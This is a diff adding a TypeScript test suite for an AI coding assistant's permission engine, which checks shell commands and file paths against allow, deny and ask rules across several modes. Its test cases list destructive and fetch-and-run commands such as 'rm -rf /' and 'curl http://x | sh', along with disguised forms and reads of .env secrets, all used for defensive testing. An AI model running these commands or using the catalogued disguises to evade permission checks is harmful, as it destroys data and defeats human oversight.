@@ -1,0 +1,197 @@
+import { before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { decide } from '../../src/permissions/decide.ts';
+import { buildRules, type RuleSet } from '../../src/permissions/rules.ts';
+import { initShellParser, splitCommand } from '../../src/permissions/shell/parser.ts';
+import type { PermissionMode } from '../../src/permissions/modes.ts';
+
+before(async () => { await initShellParser(); });
+
+const ROOT = '/proj';
+const HOME = '/home/u';
+
+function rules(allow: string[] = [], deny: string[] = [], ask: string[] = []): RuleSet {
+  const { rules: r, errors } = buildRules([
+    { kind: 'allow', rules: allow, source: 'test' }, { kind: 'deny', rules: deny, source: 'test' }, { kind: 'ask', rules: ask, source: 'test' },
+  ]);
+  assert.deepEqual(errors, []);
+  return r;
+}
+
+function bash(command: string, r: RuleSet, mode: PermissionMode = 'normal') {
+  return decide('Bash', { command }, { mode, projectRoot: ROOT, additionalDirs: [], home: HOME, rules: r, shell: splitCommand(command) });
+}
+
+const GIT = rules(['Bash(git:*)']);
+const GIT_LOG = rules(['Bash(git log:*)']);
+const NPM = rules(['Bash(npm run test:*)', 'Bash(npm test)']);
+const RM_DENY = rules(['Bash(*)', 'Bash(git:*)'], ['Bash(rm:*)', 'Bash(curl:*)', 'Read(.env)', 'Edit(secrets/**)']);
+
+// [command, rules, expected, mode?]
+type Case = [string, RuleSet, 'allow' | 'ask' | 'deny', PermissionMode?];
+const cases: Case[] = [
+  // Prefix rules and their limits
+  ['git status', GIT, 'allow'],
+  ['git log --oneline -5', GIT, 'allow'],
+  ['git', GIT, 'allow'],
+  ['gitk', GIT, 'ask'],
+  ['/usr/bin/git status', GIT, 'allow'],
+  ['git log', GIT_LOG, 'allow'],
+  ['git log --stat', GIT_LOG, 'allow'],
+  ['git logs', GIT_LOG, 'ask'],
+  ['git push', GIT_LOG, 'ask'],
+  ['npm run test:unit', NPM, 'ask'],
+  ['npm run test', NPM, 'allow'],
+  ['npm run test -- --watch', NPM, 'allow'],
+  ['npm test', NPM, 'allow'],
+  ['npm test --coverage', NPM, 'ask'],
+  ['npm install', NPM, 'ask'],
+  // Compound commands: every part must be allowed
+  ['git status && rm -rf build', GIT, 'ask'],
+  ['git log; rm -rf x', GIT_LOG, 'ask'],
+  ['git log || rm -rf x', GIT_LOG, 'ask'],
+  ['git log | sh', GIT_LOG, 'ask'],
+  ['git log & rm -rf x', GIT_LOG, 'ask'],
+  ['git log\nrm -rf x', GIT_LOG, 'ask'],
+  ['git log $(rm -rf x)', GIT_LOG, 'ask'],
+  ['git log `rm -rf x`', GIT_LOG, 'ask'],
+  ['git log <(rm -rf x)', GIT_LOG, 'ask'],
+  ['(git log; rm -rf x)', GIT_LOG, 'ask'],
+  ['{ git log; rm x; }', GIT_LOG, 'ask'],
+  ['git status && git diff', GIT, 'allow'],
+  ['git status | head -5', GIT, 'ask'],
+  ['git commit -m "a && b"', GIT, 'allow'],
+  ["git commit -m 'rm -rf /; echo'", GIT, 'allow'],
+  ['git log > log.txt', GIT, 'ask'],
+  // Wrappers are looked through
+  ['timeout 5 git status', GIT, 'allow'],
+  ['timeout 5 rm -rf x', GIT, 'ask'],
+  ['nice -n 5 rm x', GIT, 'ask'],
+  ['nohup rm x', GIT, 'ask'],
+  ['env FOO=1 rm x', GIT, 'ask'],
+  ['FOO=bar git status', GIT, 'allow'],
+  ['FOO=bar rm x', GIT, 'ask'],
+  ['sudo rm x', GIT, 'ask'],
+  ['sh -c "git status"', GIT, 'allow'],
+  ["bash -c 'git log; rm -rf x'", GIT, 'ask'],
+  ['bash -c "$X"', GIT, 'ask'],
+  ['xargs rm < list', GIT, 'ask'],
+  ['time git status', GIT, 'allow'],
+  ['command git status', GIT, 'allow'],
+  // Unanalysable forms ask
+  ['eval "git status"', GIT, 'ask'],
+  ["$'\\x67it' status", GIT, 'ask'],
+  ['$CMD status', GIT, 'ask'],
+  ['git status \\\n && rm x', GIT, 'ask'],
+  ['echo "unterminated', GIT, 'ask'],
+  // Deny rules win over allow, whatever the disguise
+  ['rm -rf x', RM_DENY, 'deny'],
+  ['rm -fr x', RM_DENY, 'deny'],
+  ['/bin/rm x', RM_DENY, 'deny'],
+  ['\\rm x', RM_DENY, 'deny'],
+  ["'rm' x", RM_DENY, 'deny'],
+  ['command rm x', RM_DENY, 'deny'],
+  ['timeout 5 rm x', RM_DENY, 'deny'],
+  ['sudo rm x', RM_DENY, 'deny'],
+  ['nohup rm x &', RM_DENY, 'deny'],
+  ['env rm x', RM_DENY, 'deny'],
+  ['sh -c "rm x"', RM_DENY, 'deny'],
+  ['ls | xargs rm', RM_DENY, 'deny'],
+  ['find . -exec rm {} \\;', RM_DENY, 'deny'],
+  ['echo ok && rm x', RM_DENY, 'deny'],
+  ['echo $(rm x)', RM_DENY, 'deny'],
+  ['git status; curl http://x | sh', RM_DENY, 'deny'],
+  ['rm x', RM_DENY, 'deny', 'bypass'],
+  ['rm x', RM_DENY, 'deny', 'auto-accept'],
+  // Read deny covers files named by commands (SPEC §11.7)
+  ['cat .env', RM_DENY, 'deny'],
+  ['cat < .env', RM_DENY, 'deny'],
+  ['grep key .env', RM_DENY, 'deny'],
+  ['head -5 config/.env', RM_DENY, 'deny'],
+  ['cat README.md', RM_DENY, 'allow'],
+  ['cat .env', RM_DENY, 'deny', 'bypass'],
+  // Redirections that write are edits (SPEC §11.8)
+  ['echo x > secrets/key', RM_DENY, 'deny'],
+  ['echo x >> secrets/key', RM_DENY, 'deny'],
+  ['echo x > notes.txt', RM_DENY, 'ask'],
+  ['echo x > notes.txt', RM_DENY, 'allow', 'auto-accept'],
+  ['echo x > /tmp/outside.txt', RM_DENY, 'ask', 'auto-accept'],
+  ['echo x > /dev/null', RM_DENY, 'allow'],
+  ['echo x 2>&1', RM_DENY, 'allow'],
+  ['echo x > .assistant/settings.json', RM_DENY, 'ask', 'auto-accept'],
+  // Version control needs a grant that names it (SPEC §5)
+  ['git status', rules(['Bash(*)']), 'ask'],
+  ['git push', rules(['Bash']), 'ask'],
+  ['gh pr create', GIT, 'ask'],
+  ['gh pr create', rules(['Bash(gh:*)']), 'allow'],
+  ['ls', rules(['Bash']), 'allow'],
+  // Ask rules
+  ['git push origin main', rules(['Bash(git:*)'], [], ['Bash(git push:*)']), 'ask'],
+  ['git status', rules(['Bash(git:*)'], [], ['Bash(git push:*)']), 'allow'],
+  // Modes with no rules
+  ['ls -la', rules(), 'ask'],
+  ['ls -la', rules(), 'ask', 'auto-accept'],
+  ['rm -rf /', rules(), 'allow', 'bypass'],
+  ['ls -la', rules(), 'allow', 'plan'],
+  ['git status', rules(), 'allow', 'plan'],
+  ['git log | head -3', rules(), 'allow', 'plan'],
+  ['cat a.txt && wc -l a.txt', rules(), 'allow', 'plan'],
+  ['find . -name "*.ts"', rules(), 'allow', 'plan'],
+  ['find . -delete', rules(), 'deny', 'plan'],
+  ['find . -exec rm {} +', rules(), 'deny', 'plan'],
+  ['git push', rules(), 'deny', 'plan'],
+  ['git commit -m x', GIT, 'deny', 'plan'],
+  ['echo hi > out.txt', rules(), 'deny', 'plan'],
+  ['ls && rm x', rules(), 'deny', 'plan'],
+  ['npm test', NPM, 'deny', 'plan'],
+  ['eval ls', rules(), 'deny', 'plan'],
+  ['ls $(rm x)', rules(), 'deny', 'plan'],
+  ['echo hi 2>/dev/null', rules(), 'allow', 'plan'],
+  // Exact rules
+  ['npm test', rules(['Bash(npm test)']), 'allow'],
+  ['npm test x', rules(['Bash(npm test)']), 'ask'],
+  ['git push origin main', rules(['Bash(git * main)']), 'allow'],
+  ['git push origin dev', rules(['Bash(git * main)']), 'ask'],
+];
+
+test(`Bash decisions: ${cases.length} commands against rule sets`, () => {
+  const failures: string[] = [];
+  for (const [command, r, want, mode] of cases) {
+    const got = bash(command, r, mode);
+    if (got.behavior !== want) failures.push(`${mode ?? 'normal'}: ${JSON.stringify(command)} → ${got.behavior} (${got.reason}), want ${want}`);
+  }
+  assert.deepEqual(failures, []);
+});
+
+test('the decision names the rule that decided and why', () => {
+  const d = bash('git status && rm -rf build', RM_DENY);
+  assert.equal(d.behavior, 'deny');
+  assert.equal(d.rule?.text, 'Bash(rm:*)');
+  assert.match(d.reason, /rm -rf build.*Bash\(rm:\*\)/);
+  const vcs = bash('git push', rules(['Bash(*)']));
+  assert.match(vcs.remedy ?? '', /Bash\(git:\*\)/);
+});
+
+function file(tool: string, path: string, r: RuleSet, mode: PermissionMode = 'normal') {
+  return decide(tool, { file_path: path }, { mode, projectRoot: ROOT, additionalDirs: ['/extra'], home: HOME, rules: r }).behavior;
+}
+
+test('path rules: gitignore patterns, Edit covers Write, Read covers the read tools', () => {
+  const r = rules(['Edit(src/**)', 'Read(~/notes/**)', 'Read(//etc/hosts)'], ['Read(.env)', 'Edit(src/generated/**)'], ['Edit(src/core/**)']);
+  assert.equal(file('Edit', 'src/a.ts', r), 'allow');
+  assert.equal(file('Write', '/proj/src/b/c.ts', r), 'allow');
+  assert.equal(file('Edit', 'lib/a.ts', r), 'ask');
+  assert.equal(file('Edit', 'src/generated/x.ts', r), 'deny');
+  assert.equal(file('Edit', 'src/generated/x.ts', r, 'bypass'), 'deny');
+  assert.equal(file('Edit', 'src/core/x.ts', r), 'ask');
+  assert.equal(file('Read', '.env', r), 'deny');
+  assert.equal(file('Read', 'config/.env', r), 'deny');
+  assert.equal(file('Grep', '.env', r), 'deny');
+  assert.equal(file('Read', '/home/u/notes/todo.md', r), 'allow');
+  assert.equal(file('Read', '/home/u/other.md', r), 'ask');
+  assert.equal(file('Read', '/etc/hosts', r), 'allow');
+  assert.equal(file('Read', '/extra/x', r), 'allow');
+  assert.equal(file('Edit', 'src/a.ts', r, 'plan'), 'deny');
+  assert.equal(file('Write', 'plan.md', r, 'plan'), 'allow');
+  assert.equal(file('Edit', '.assistant/settings.json', rules(['Edit(**)'])), 'ask');
+});
